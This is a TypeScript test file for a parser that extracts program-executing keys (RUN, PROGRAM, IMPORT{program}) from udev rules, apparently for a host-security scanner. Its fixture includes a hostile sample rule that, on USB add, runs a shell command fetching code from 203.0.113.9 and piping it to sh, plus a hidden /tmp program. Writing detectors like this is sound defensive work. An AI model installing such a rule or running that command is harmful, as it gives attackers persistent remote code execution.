import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { isUdevExecKey, parseUdevRules } from '../../src/host/udev-rules.js';

test('RUN, PROGRAM and IMPORT{program} keys with their lines; continuations; comments', () => {
  const text = [
    '# comment',
    'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \'curl http://203.0.113.9/u|sh\'"',
    'KERNEL=="sd*", \\',
    '  PROGRAM="/usr/lib/udev/scsi_id -g", \\',
    '  IMPORT{program}="/tmp/.u/probe $kernel"',
    'TAG=="uaccess", RUN{builtin}+="uaccess"',
    'ENV{X}=="1", RUN{program}+=e"/bin/echo \\x41"',
    '',
  ].join('\n');
  const rules = parseUdevRules(text);
  assert.deepEqual(rules.map((r) => r.line), [2, 3, 6, 7]);
  const exec = rules.flatMap((r) => r.keys.filter(isUdevExecKey).map((k) => [r.line, k.key, k.attr, k.op, k.value]));
  assert.deepEqual(exec, [
    [2, 'RUN', null, '+=', "/bin/sh -c 'curl http://203.0.113.9/u|sh'"],
    [3, 'PROGRAM', null, '=', '/usr/lib/udev/scsi_id -g'],
    [3, 'IMPORT', 'program', '=', '/tmp/.u/probe $kernel'],
    [6, 'RUN', 'builtin', '+=', 'uaccess'],
    [7, 'RUN', 'program', '+=', '/bin/echo A'],
  ]);
  assert.equal(rules[0]!.rest, null);
});

test('text that is not a key is kept as rest', () => {
  const [r] = parseUdevRules('ACTION=="add" garbage RUN+="/x"\n');
  assert.equal(r!.keys.length, 1);
  assert.equal(r!.rest, 'garbage RUN+="/x"');
});

test('property: any text parses without throwing', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string({ maxLength: 300 }), fc.array(fc.constantFrom('RUN+="x"', 'A{b}=="c"', ',', '\\', '\n', '"', '#', 'e"\\x4"'), { maxLength: 30 }).map((a) => a.join(''))), (t) => {
      for (const r of parseUdevRules(t)) assert.ok(r.line >= 1);
    }),
    { numRuns: 500 },
  );
});
